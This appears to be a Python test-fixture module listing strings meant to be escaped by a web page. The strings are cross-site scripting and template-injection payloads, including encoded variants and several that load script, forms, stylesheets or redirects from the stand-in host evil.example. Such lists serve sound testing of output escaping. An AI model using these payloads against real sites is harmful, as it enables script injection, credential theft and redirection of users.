"""Texts that would run as markup or script if a page did not escape them."""

# ruff: noqa: E501 - a line for some texts
HOSTILE = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'>", '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</pre><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}", "{{ self.__init__.__globals__ }}", "{% for x in ().__class__.__mro__ %}x{% endfor %}", "${7*7}",
    "<a href='javascript:alert(1)'>click</a>", "<form action=//evil.example><input name=csrf></form>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "<p style='background:url(//evil.example)'>", "<hx-partial hx-target=body>gone</hx-partial>",
    '<div hx-get="/server" hx-trigger="load">', "<div hx-on:load='alert(1)'>", "<template><script>alert(1)</script></template>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "x` <script>alert(1)</script> `x",
    "\"-alert(1)-\"", "'-alert(1)-'", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<script>alert(1)</script>", "\u2066admin\u2069 approved", "a" * 500 + "<script>alert(1)</script>",
    "\x1b[31mred\x1b[0m<script>alert(1)</script>", "ＳＣＲＩＰＴ＜script＞alert(1)", "<\u0000script>alert(1)</script>",
)  # fmt: skip
